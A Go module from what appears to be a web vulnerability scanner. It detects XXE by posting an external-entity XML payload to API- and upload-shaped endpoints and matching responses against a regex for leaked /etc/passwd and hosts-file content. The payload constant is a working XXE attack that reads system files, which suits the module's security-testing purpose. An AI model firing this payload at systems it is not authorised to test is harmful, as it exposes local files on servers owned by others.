package modules

import (
	"context"
	"fmt"
	"regexp"
	"strings"

	"github.com/scntm/scanner/internal/config"
	"github.com/scntm/scanner/internal/detector"
	"github.com/scntm/scanner/internal/httpclient"
	"github.com/scntm/scanner/internal/model"
)

func init() {
	detector.Register(xxeDetector{})
}

var xxeEndpointHints = []string{"/api/", "/soap/", "/xml/", "/upload", "/import", "/parse"}

var xxeIndicator = regexp.MustCompile(`root:.*:/bin/|\[extensions\]|127\.0\.0\.1\s+localhost`)

const xxePayload = `<?xml version="1.0"?>
<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<root>&xxe;</root>`

type xxeDetector struct{}

func (xxeDetector) Name() string        { return "xxe" }
func (xxeDetector) Description() string { return "Posts an external-entity XML payload to API/upload-shaped endpoints." }
func (xxeDetector) ScanModes() []config.ScanMode { return []config.ScanMode{config.ModeFull} }
func (xxeDetector) IsActive() bool               { return true }

func (xxeDetector) DetectPassive(model.CrawledPage) []model.Finding { return nil }

func (d xxeDetector) DetectActive(ctx context.Context, page model.CrawledPage, client *httpclient.Client) []model.Finding {
	var findings []model.Finding

	candidates := map[string]bool{}
	if looksLikeAPIEndpoint(page.URL) {
		candidates[page.URL] = true
	}
	for _, form := range page.Forms {
		if looksLikeAPIEndpoint(form.Action) || hasFileInput(form) {
			candidates[form.Action] = true
		}
	}

	for target := range candidates {
		resp, err := client.Post(ctx, target, []byte(xxePayload), "application/xml")
		if err != nil {
			continue
		}
		if xxeIndicator.MatchString(string(resp.Body)) {
			findings = append(findings, detector.NewFinding(
				d.Name(), "xxe",
				"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
				"A05:2021-Security Misconfiguration", "CWE-611",
				target, "",
				fmt.Sprintf("Endpoint %q parses an XML body with external entities enabled, leaking local file content.", target),
				"Disable external entity and DTD processing in the XML parser.",
				model.ConfidenceConfirmed,
				detector.RequestEvidence("payload", xxePayload),
			))
		}
	}
	return findings
}

func looksLikeAPIEndpoint(rawURL string) bool {
	lower := strings.ToLower(rawURL)
	return containsAnyFold(lower, xxeEndpointHints)
}

func hasFileInput(form model.Form) bool {
	for _, in := range form.Inputs {
		if strings.EqualFold(in.Type, "file") {
			return true
		}
	}
	return false
}
